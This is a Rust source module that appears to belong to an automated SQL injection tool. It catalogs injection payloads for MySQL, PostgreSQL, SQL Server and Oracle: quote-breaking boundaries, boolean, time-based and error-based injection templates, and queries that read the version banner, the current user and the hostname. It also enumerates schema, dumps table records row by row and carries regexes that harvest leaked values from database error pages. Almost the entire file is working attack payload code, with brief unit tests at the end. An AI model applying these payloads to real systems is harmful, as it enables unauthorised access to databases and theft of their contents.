pub mod vector;

use once_cell::sync::Lazy;
use regex::Regex;
use serde::{Deserialize, Serialize};

use crate::core::error::{EngineError, Result};

pub use vector::{scoped_randnum, Technique, Vector, BOOLEAN_CONDITION_MARKER};

/// Supported back-end families, in fingerprint probability order.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Dbms {
    MySql,
    PostgreSql,
    MsSql,
    Oracle,
}

impl Dbms {
    pub const ALL: [Dbms; 4] = [Dbms::MySql, Dbms::PostgreSql, Dbms::MsSql, Dbms::Oracle];

    pub fn name(&self) -> &'static str {
        match self {
            Dbms::MySql => "MySQL",
            Dbms::PostgreSql => "PostgreSQL",
            Dbms::MsSql => "Microsoft SQL Server",
            Dbms::Oracle => "Oracle",
        }
    }

    pub fn from_name(name: &str) -> Option<Self> {
        Dbms::ALL.iter().copied().find(|d| d.name().eq_ignore_ascii_case(name))
    }
}

impl std::fmt::Display for Dbms {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.name())
    }
}

/// Named placeholder inside a catalog template. Keeping the set closed means
/// a missing substitution is a construction error, never a wire payload.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Slot {
    Query,
    Position,
    Db,
    Tbl,
    Col,
    Offset,
}

impl Slot {
    pub fn token(&self) -> &'static str {
        match self {
            Slot::Query => "{query}",
            Slot::Position => "{position}",
            Slot::Db => "{db}",
            Slot::Tbl => "{tbl}",
            Slot::Col => "{col}",
            Slot::Offset => "{offset}",
        }
    }
}

/// Substitute every slot and verify nothing bracketed survives.
pub fn fill(template: &str, subs: &[(Slot, &str)]) -> Result<String> {
    let mut out = template.to_string();
    for (slot, value) in subs {
        out = out.replace(slot.token(), value);
    }
    if let Some(start) = out.find('{') {
        let end = out[start..].find('}').map(|i| start + i + 1).unwrap_or(out.len());
        return Err(EngineError::Template(out[start..end].to_string()));
    }
    Ok(out)
}

/// One catalog entry; callers iterate descending by confidence until a
/// variant succeeds.
#[derive(Debug, Clone, Copy)]
pub struct PayloadTemplate {
    pub expr: &'static str,
    pub note: &'static str,
    pub confidence: f64,
}

/// `LENGTH({query})`-style scalar, the length of the target expression.
pub fn length_templates(dbms: Dbms) -> &'static [PayloadTemplate] {
    match dbms {
        Dbms::MySql => &[
            PayloadTemplate { expr: "LENGTH({query})", note: "standard LENGTH()", confidence: 0.98 },
            PayloadTemplate { expr: "CHAR_LENGTH({query})", note: "alternative", confidence: 0.90 },
        ],
        Dbms::Oracle => &[
            PayloadTemplate { expr: "LENGTH({query})", note: "standard LENGTH()", confidence: 0.98 },
        ],
        Dbms::MsSql => &[
            PayloadTemplate { expr: "LEN({query})", note: "standard LEN()", confidence: 0.98 },
        ],
        Dbms::PostgreSql => &[
            PayloadTemplate { expr: "LENGTH(({query})::text)", note: "cast to text", confidence: 0.98 },
        ],
    }
}

/// Ordinal of the character at `{position}` of `{query}`. The comparison
/// operator is appended by the inference strategy.
pub fn char_ord_templates(dbms: Dbms) -> &'static [PayloadTemplate] {
    match dbms {
        Dbms::MySql => &[
            PayloadTemplate { expr: "ORD(MID({query},{position},1))", note: "standard MID+ORD", confidence: 0.95 },
            PayloadTemplate { expr: "ORD(MID(IFNULL({query},0x20),{position},1))", note: "null safe", confidence: 0.90 },
        ],
        Dbms::Oracle => &[
            PayloadTemplate { expr: "ASCII(SUBSTR({query},{position},1))", note: "standard SUBSTR+ASCII", confidence: 0.95 },
            PayloadTemplate { expr: "ASCII(SUBSTR(NVL({query},' '),{position},1))", note: "null safe", confidence: 0.90 },
        ],
        Dbms::MsSql => &[
            PayloadTemplate { expr: "UNICODE(SUBSTRING({query},{position},1))", note: "standard SUBSTRING+UNICODE", confidence: 0.95 },
            PayloadTemplate { expr: "UNICODE(SUBSTRING(ISNULL({query},' '),{position},1))", note: "null safe", confidence: 0.90 },
        ],
        Dbms::PostgreSql => &[
            PayloadTemplate { expr: "ASCII(SUBSTRING(({query})::text FROM {position} FOR 1))", note: "standard", confidence: 0.95 },
            PayloadTemplate { expr: "ASCII(SUBSTRING(COALESCE(({query})::text,' ') FROM {position} FOR 1))", note: "null safe", confidence: 0.90 },
        ],
    }
}

// ── Scalar expressions for enumeration; wrapped as `(SELECT <expr>)` ──

pub fn banner_exprs(dbms: Dbms) -> &'static [&'static str] {
    match dbms {
        Dbms::MySql => &["VERSION()", "@@VERSION"],
        Dbms::Oracle => &["banner FROM v$version WHERE ROWNUM=1", "version FROM v$instance"],
        Dbms::MsSql => &["@@VERSION"],
        Dbms::PostgreSql => &["VERSION()"],
    }
}

pub fn current_user_exprs(dbms: Dbms) -> &'static [&'static str] {
    match dbms {
        Dbms::MySql => &["CURRENT_USER()", "USER()"],
        Dbms::Oracle => &["USER FROM DUAL"],
        Dbms::MsSql => &["CURRENT_USER", "SYSTEM_USER"],
        Dbms::PostgreSql => &["CURRENT_USER", "session_user"],
    }
}

pub fn current_db_exprs(dbms: Dbms) -> &'static [&'static str] {
    match dbms {
        Dbms::MySql => &["DATABASE()", "SCHEMA()"],
        Dbms::Oracle => &["SYS.DATABASE_NAME FROM DUAL", "global_name FROM global_name"],
        Dbms::MsSql => &["DB_NAME()"],
        Dbms::PostgreSql => &["current_database()"],
    }
}

pub fn hostname_exprs(dbms: Dbms) -> &'static [&'static str] {
    match dbms {
        Dbms::MySql => &["@@HOSTNAME"],
        Dbms::Oracle => &["host_name FROM v$instance"],
        Dbms::MsSql => &["@@SERVERNAME", "HOST_NAME()"],
        Dbms::PostgreSql => &["inet_server_addr()"],
    }
}

// ── Schema enumeration templates, `{db}` / `{tbl}` / `{col}` / `{offset}` ──

pub fn column_count_templates(dbms: Dbms) -> &'static [PayloadTemplate] {
    match dbms {
        Dbms::MySql => &[
            PayloadTemplate {
                expr: "COUNT(*) FROM INFORMATION_SCHEMA.COLUMNS WHERE TABLE_SCHEMA='{db}' AND TABLE_NAME='{tbl}'",
                note: "information_schema", confidence: 0.95,
            },
        ],
        Dbms::PostgreSql => &[
            PayloadTemplate {
                expr: "COUNT(*) FROM INFORMATION_SCHEMA.COLUMNS WHERE TABLE_SCHEMA='{db}' AND TABLE_NAME='{tbl}'",
                note: "information_schema", confidence: 0.95,
            },
        ],
        Dbms::MsSql => &[
            PayloadTemplate {
                expr: "COUNT(COLUMN_NAME) FROM INFORMATION_SCHEMA.COLUMNS WHERE table_catalog='{db}' AND table_name='{tbl}'",
                note: "information_schema", confidence: 0.92,
            },
        ],
        Dbms::Oracle => &[
            PayloadTemplate {
                expr: "COUNT(COLUMN_NAME) FROM ALL_TAB_COLUMNS WHERE OWNER='{db}' AND TABLE_NAME='{tbl}'",
                note: "all_tab_columns", confidence: 0.95,
            },
        ],
    }
}

pub fn column_name_templates(dbms: Dbms) -> &'static [PayloadTemplate] {
    match dbms {
        Dbms::MySql => &[
            PayloadTemplate {
                expr: "COLUMN_NAME FROM INFORMATION_SCHEMA.COLUMNS WHERE TABLE_SCHEMA='{db}' AND TABLE_NAME='{tbl}' LIMIT {offset},1",
                note: "information_schema", confidence: 0.95,
            },
        ],
        Dbms::PostgreSql => &[
            PayloadTemplate {
                expr: "COLUMN_NAME FROM INFORMATION_SCHEMA.COLUMNS WHERE TABLE_SCHEMA='{db}' AND TABLE_NAME='{tbl}' OFFSET {offset} LIMIT 1",
                note: "information_schema", confidence: 0.95,
            },
        ],
        Dbms::MsSql => &[
            PayloadTemplate {
                expr: "TOP 1 COLUMN_NAME FROM INFORMATION_SCHEMA.COLUMNS WHERE table_catalog='{db}' AND table_name='{tbl}' AND COLUMN_NAME NOT IN (SELECT TOP {offset} COLUMN_NAME FROM INFORMATION_SCHEMA.COLUMNS WHERE table_catalog='{db}' AND table_name='{tbl}')",
                note: "nested TOP pagination", confidence: 0.90,
            },
        ],
        Dbms::Oracle => &[
            PayloadTemplate {
                expr: "COLUMN_NAME FROM (SELECT COLUMN_NAME, ROWNUM rn FROM ALL_TAB_COLUMNS WHERE OWNER='{db}' AND TABLE_NAME='{tbl}') WHERE rn={offset}+1",
                note: "rownum pagination", confidence: 0.92,
            },
        ],
    }
}

pub fn record_count_templates(dbms: Dbms) -> &'static [PayloadTemplate] {
    match dbms {
        Dbms::MySql => &[
            PayloadTemplate { expr: "COUNT(*) FROM {db}.{tbl}", note: "count", confidence: 0.95 },
            PayloadTemplate {
                expr: "IFNULL(TABLE_ROWS,0) FROM INFORMATION_SCHEMA.TABLES WHERE TABLE_SCHEMA='{db}' AND TABLE_NAME='{tbl}'",
                note: "estimate fallback", confidence: 0.70,
            },
        ],
        Dbms::PostgreSql => &[
            PayloadTemplate { expr: "COUNT(*) FROM {db}.{tbl}", note: "count", confidence: 0.95 },
        ],
        Dbms::MsSql => &[
            PayloadTemplate { expr: "COUNT(*) FROM {db}.{tbl}", note: "count", confidence: 0.95 },
        ],
        Dbms::Oracle => &[
            PayloadTemplate { expr: "COUNT(*) FROM {db}.{tbl}", note: "count", confidence: 0.95 },
        ],
    }
}

pub fn record_dump_templates(dbms: Dbms) -> &'static [PayloadTemplate] {
    match dbms {
        Dbms::MySql => &[
            PayloadTemplate { expr: "{col} FROM {db}.{tbl} LIMIT {offset},1", note: "limit pagination", confidence: 0.95 },
        ],
        Dbms::PostgreSql => &[
            PayloadTemplate { expr: "({col})::text FROM {db}.{tbl} OFFSET {offset} LIMIT 1", note: "offset pagination", confidence: 0.95 },
        ],
        Dbms::MsSql => &[
            PayloadTemplate {
                expr: "TOP 1 {col} FROM {db}.{tbl} WHERE {col} NOT IN (SELECT TOP {offset} {col} FROM {db}.{tbl})",
                note: "nested TOP pagination", confidence: 0.90,
            },
        ],
        Dbms::Oracle => &[
            PayloadTemplate {
                expr: "{col} FROM (SELECT {col}, ROWNUM rn FROM {db}.{tbl}) WHERE rn={offset}+1",
                note: "rownum pagination", confidence: 0.92,
            },
        ],
    }
}

// ── Boundaries: syntactic context that balances quotes and parentheses ──

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Boundary {
    pub prefix: &'static str,
    pub suffix: &'static str,
}

pub const BOUNDARIES: &[Boundary] = &[
    Boundary { prefix: "", suffix: "" },
    Boundary { prefix: "'", suffix: "-- -" },
    Boundary { prefix: "\"", suffix: "-- -" },
    Boundary { prefix: "')", suffix: "-- -" },
    Boundary { prefix: "\")", suffix: "-- -" },
    Boundary { prefix: ")", suffix: "-- -" },
];

/// Boolean detection templates. Each carries the `[RANDNUM]=[RANDNUM]`
/// condition marker that detection swaps for a true/false pair and inference
/// later swaps for `[INFERENCE]`.
pub const BOOLEAN_TEMPLATES: &[&str] = &[
    " AND [RANDNUM]=[RANDNUM]",
    " OR [RANDNUM]=[RANDNUM]",
];

/// Time-based templates per DBMS, `[SLEEPTIME]` in seconds.
pub fn time_templates(dbms: Dbms) -> &'static [&'static str] {
    match dbms {
        Dbms::MySql => &[
            " AND SLEEP([SLEEPTIME])",
            " AND (SELECT * FROM (SELECT(SLEEP([SLEEPTIME])))x)",
            " OR SLEEP([SLEEPTIME])",
        ],
        Dbms::PostgreSql => &[
            " AND [RANDNUM]=(SELECT [RANDNUM] FROM PG_SLEEP([SLEEPTIME]))",
            ";SELECT PG_SLEEP([SLEEPTIME])",
        ],
        Dbms::MsSql => &[
            ";WAITFOR DELAY '0:0:[SLEEPTIME]'",
            " WAITFOR DELAY '0:0:[SLEEPTIME]'",
        ],
        Dbms::Oracle => &[
            " AND [RANDNUM]=DBMS_PIPE.RECEIVE_MESSAGE(CHR(98)||CHR(99),[SLEEPTIME])",
        ],
    }
}

/// Conditional-sleep skeleton used once a time-based point is confirmed:
/// sleeps only when `[INFERENCE]` evaluates true.
pub fn time_inference_template(dbms: Dbms) -> &'static str {
    match dbms {
        Dbms::MySql => " AND IF([INFERENCE],SLEEP([SLEEPTIME]),0)",
        Dbms::PostgreSql => " AND (SELECT CASE WHEN ([INFERENCE]) THEN PG_SLEEP([SLEEPTIME]) END) IS NULL",
        Dbms::MsSql => ";IF([INFERENCE]) WAITFOR DELAY '0:0:[SLEEPTIME]'",
        Dbms::Oracle => " AND 1=(CASE WHEN ([INFERENCE]) THEN DBMS_PIPE.RECEIVE_MESSAGE(CHR(98),[SLEEPTIME]) ELSE 1 END)",
    }
}

/// Error-based templates. Every variant wraps `[INFERENCE]` between the
/// `START~` / `~END` sentinels so one extractor family can harvest the value.
#[derive(Debug, Clone, Copy)]
pub struct ErrorTemplate {
    pub template: &'static str,
    pub title: &'static str,
    pub confidence: f64,
}

pub fn error_templates(dbms: Dbms) -> &'static [ErrorTemplate] {
    match dbms {
        Dbms::MySql => &[
            ErrorTemplate {
                template: " AND EXTRACTVALUE(1,CONCAT('~','START~',([INFERENCE]),'~END'))",
                title: "MySQL >= 5.1 error-based (EXTRACTVALUE)",
                confidence: 0.95,
            },
            ErrorTemplate {
                template: " AND UPDATEXML(1,CONCAT('~','START~',([INFERENCE]),'~END'),1)",
                title: "MySQL >= 5.1 error-based (UPDATEXML)",
                confidence: 0.92,
            },
            ErrorTemplate {
                template: " AND EXP(~(SELECT * FROM (SELECT CONCAT('START~',([INFERENCE]),'~END'))x))",
                title: "MySQL >= 5.5 error-based (EXP double overflow)",
                confidence: 0.85,
            },
            ErrorTemplate {
                template: " AND GTID_SUBSET(CONCAT('START~',([INFERENCE]),'~END'),1)",
                title: "MySQL >= 5.6 error-based (GTID_SUBSET)",
                confidence: 0.85,
            },
            ErrorTemplate {
                template: " AND JSON_KEYS((SELECT CONVERT(CONCAT('START~',([INFERENCE]),'~END') USING utf8)))",
                title: "MySQL >= 5.7 error-based (JSON_KEYS)",
                confidence: 0.82,
            },
            ErrorTemplate {
                template: " AND ST_LatFromGeoHash(CONCAT('START~',([INFERENCE]),'~END'))",
                title: "MySQL >= 5.7 error-based (geometric)",
                confidence: 0.80,
            },
            ErrorTemplate {
                template: " OR 1 GROUP BY CONCAT('START~',([INFERENCE]),'~END',FLOOR(RAND(0)*2)) HAVING MIN(0)",
                title: "MySQL error-based (duplicate-entry)",
                confidence: 0.78,
            },
        ],
        Dbms::PostgreSql => &[
            ErrorTemplate {
                template: " AND 1=CAST(('START~'||([INFERENCE])||'~END') AS NUMERIC)",
                title: "PostgreSQL error-based (invalid cast)",
                confidence: 0.92,
            },
        ],
        Dbms::MsSql => &[
            ErrorTemplate {
                template: " AND 1=CONVERT(INT,('START~'+([INFERENCE])+'~END'))",
                title: "Microsoft SQL Server error-based (CONVERT)",
                confidence: 0.92,
            },
            ErrorTemplate {
                template: " AND 1=CAST(('START~'+([INFERENCE])+'~END') AS INT)",
                title: "Microsoft SQL Server error-based (CAST)",
                confidence: 0.88,
            },
        ],
        Dbms::Oracle => &[
            ErrorTemplate {
                template: " AND 1=CTXSYS.DRITHSX.SN(1,('START~'||([INFERENCE])||'~END'))",
                title: "Oracle error-based (CTXSYS.DRITHSX.SN)",
                confidence: 0.90,
            },
            ErrorTemplate {
                template: " AND 1=UTL_INADDR.GET_HOST_ADDRESS(('START~'||([INFERENCE])||'~END'))",
                title: "Oracle error-based (UTL_INADDR)",
                confidence: 0.85,
            },
        ],
    }
}

/// Extractor regexes over error pages, most specific first. Each exposes the
/// harvested value as the `value` capture group.
pub static ERROR_EXTRACTORS: Lazy<Vec<Regex>> = Lazy::new(|| {
    [
        r"(?is)XPATH syntax error:\s*'~?START~(?P<value>.*?)~END",
        r"(?is)Duplicate entry '(?:START~)?(?P<value>.*?)~END",
        r"(?is)conver(?:sion|ting).{0,80}?'START~(?P<value>.*?)~END'",
        r"(?is)invalid input syntax for\s+\w+\s*\w*:\s*\x22?START~(?P<value>.*?)~END",
        r"(?is)START~(?P<value>.*?)~END",
    ]
    .iter()
    .map(|p| Regex::new(p).expect("error extractor pattern"))
    .collect()
});

/// Scan a body with the extractor family; first non-empty capture wins.
pub fn extract_error_value(body: &str) -> Option<String> {
    for re in ERROR_EXTRACTORS.iter() {
        if let Some(caps) = re.captures(body) {
            if let Some(m) = caps.name("value") {
                if !m.as_str().is_empty() {
                    return Some(m.as_str().to_string());
                }
            }
        }
    }
    None
}

/// Per-DBMS error signatures used by the heuristic check.
pub static DBMS_ERROR_SIGNATURES: Lazy<Vec<(Dbms, Regex)>> = Lazy::new(|| {
    [
        (Dbms::MySql, r"(?i)SQL syntax.{0,80}?MySQL|You have an error in your SQL syntax|MariaDB server version|mysql_fetch|valid MySQL result"),
        (Dbms::PostgreSql, r"(?i)PostgreSQL.{0,40}?ERROR|pg_query\(|pg_exec\(|unterminated quoted string|syntax error at or near"),
        (Dbms::MsSql, r"(?i)Microsoft SQL Server|Unclosed quotation mark|Incorrect syntax near|ODBC SQL Server Driver|SQLServer JDBC Driver"),
        (Dbms::Oracle, r"(?i)\bORA-\d{5}|Oracle error|Oracle.{0,40}?Driver|quoted string not properly terminated"),
    ]
    .iter()
    .map(|(d, p)| (*d, Regex::new(p).expect("dbms signature pattern")))
    .collect()
});

/// First DBMS whose error signature matches the body, if any.
pub fn match_dbms_error(body: &str) -> Option<Dbms> {
    DBMS_ERROR_SIGNATURES
        .iter()
        .find(|(_, re)| re.is_match(body))
        .map(|(dbms, _)| *dbms)
}

/// Syntactic breakers injected by the heuristic phase.
pub const HEURISTIC_BREAKERS: &[&str] = &["'\",..))", "',..))", "\",..))", "'\""];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fill_rejects_residual_placeholder() {
        let err = fill("ORD(MID({query},{position},1))", &[(Slot::Query, "DATABASE()")]);
        assert!(matches!(err, Err(EngineError::Template(t)) if t == "{position}"));
    }

    #[test]
    fn fill_substitutes_all_slots() {
        let out = fill(
            "{col} FROM {db}.{tbl} LIMIT {offset},1",
            &[(Slot::Col, "user"), (Slot::Db, "shop"), (Slot::Tbl, "users"), (Slot::Offset, "3")],
        )
        .unwrap();
        assert_eq!(out, "user FROM shop.users LIMIT 3,1");
    }

    #[test]
    fn templates_ordered_by_confidence() {
        for dbms in Dbms::ALL {
            for table in [length_templates(dbms), char_ord_templates(dbms)] {
                let confidences: Vec<f64> = table.iter().map(|t| t.confidence).collect();
                let mut sorted = confidences.clone();
                sorted.sort_by(|a, b| b.partial_cmp(a).unwrap());
                assert_eq!(confidences, sorted, "{} catalog out of order", dbms);
            }
        }
    }

    #[test]
    fn extractor_harvests_sentinel_value() {
        let body = "XPATH syntax error: '~START~testdb~END'";
        assert_eq!(extract_error_value(body).as_deref(), Some("testdb"));
        let generic = "<html>blah START~8.0.31~END blah</html>";
        assert_eq!(extract_error_value(generic).as_deref(), Some("8.0.31"));
        assert_eq!(extract_error_value("clean page"), None);
    }

    #[test]
    fn mysql_signature_matches() {
        let body = "You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version";
        assert_eq!(match_dbms_error(body), Some(Dbms::MySql));
        assert_eq!(match_dbms_error("ORA-01756: quoted string not properly terminated"), Some(Dbms::Oracle));
        assert_eq!(match_dbms_error("all good"), None);
    }
}
